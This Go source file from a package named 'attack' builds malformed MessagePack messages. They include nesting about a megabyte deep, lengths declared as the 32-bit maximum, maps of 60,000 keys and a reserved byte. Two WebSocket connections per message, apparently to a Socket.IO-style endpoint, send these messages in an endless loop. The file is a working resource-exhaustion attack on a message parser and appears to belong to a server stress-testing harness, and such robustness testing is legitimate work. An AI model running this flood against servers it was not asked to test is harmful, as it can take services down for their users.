//go:build linux

package attack

import (
	"encoding/binary"
	"math"
	"strconv"
	"strings"
)

// msgpack sends MessagePack that is deep, declares more than there is, or has
// many keys: two connections each send one such message again and again.
func msgpack(f *Field) {
	for _, message := range packedMessages() {
		flood := appendFrame(nil, final|opBinary, message)
		f.onEach(2, 0, func(c *raw) error {
			c.path = msgpackPath
			if err := c.webSocket(false); err != nil {
				return err
			}
			if _, err := c.Write(appendFrame(nil, final|opBinary, packedMap("type", "\x00", "nsp", packedText("/")))); err != nil {
				return err
			}
			if _, err := c.next(); err != nil {
				return err
			}
			go func() {
				_ = c.chatter()
				c.leave() // so that the writing ends
			}()
			for {
				if _, err := c.Write(flood); err != nil {
					return err
				}
				f.count("messages", 1)
			}
		})
	}
}

// packedMessages are the events that the attack sends.
func packedMessages() [][]byte {
	const deep, nested = megabyte - 100, 4000 // more than may be nested, and nearly as much
	const many = 60_000                       // pairs that fit into a message
	head := func(kind byte, n int) string { return string(binary.BigEndian.AppendUint32([]byte{kind}, uint32(n))) }
	const array32, map32, str32, bin32, ext32 = 0xdd, 0xdf, 0xdb, 0xc6, 0xc9
	var pairs strings.Builder
	for i := range many {
		pairs.WriteString(packedText("key"+strconv.Itoa(i)) + packedNil)
	}
	keys := head(map32, many) + pairs.String()
	same := head(map32, many) + strings.Repeat(packedText("key")+packedNil, many)
	var messages [][]byte
	for _, argument := range []string{
		strings.Repeat("\x91", deep) + packedNil,
		strings.Repeat("\x81\xa1a", nested) + packedNil,
		strings.Repeat("\x91", nested) + packedNil,
		keys, same,
		head(array32, megabyte-100) + strings.Repeat(packedNil, megabyte-100),
		head(array32, math.MaxUint32), head(map32, math.MaxUint32), head(str32, math.MaxUint32), head(bin32, math.MaxUint32),
		head(ext32, math.MaxUint32) + "\x01",
		"\xc1", // is never used
	} {
		messages = append(messages, packedMap("type", packedEvent, "nsp", packedText("/"), "data", "\x92"+packedText("echo")+argument))
	}
	return append(messages,
		packedMap("type", packedEvent, "nsp", packedText("/"), "data", head(array32, megabyte-100)+packedText("echo")+strings.Repeat(packedNil, megabyte-101)),
		[]byte(keys), []byte(head(map32, math.MaxUint32)), nil)
}

// Values of MessagePack.
const (
	packedNil   = "\xc0"
	packedEvent = "\x02" // the type of a packet
)

// packedText is a string of at most 31 bytes.
func packedText(text string) string { return string([]byte{0xa0 | byte(len(text))}) + text }

// packedMap is a map of at most 15 pairs: a name, and a value that is packed.
func packedMap(pairs ...string) []byte {
	out := []byte{0x80 | byte(len(pairs)/2)}
	for i := 0; i < len(pairs); i += 2 {
		out = append(append(out, packedText(pairs[i])...), pairs[i+1]...)
	}
	return out
}
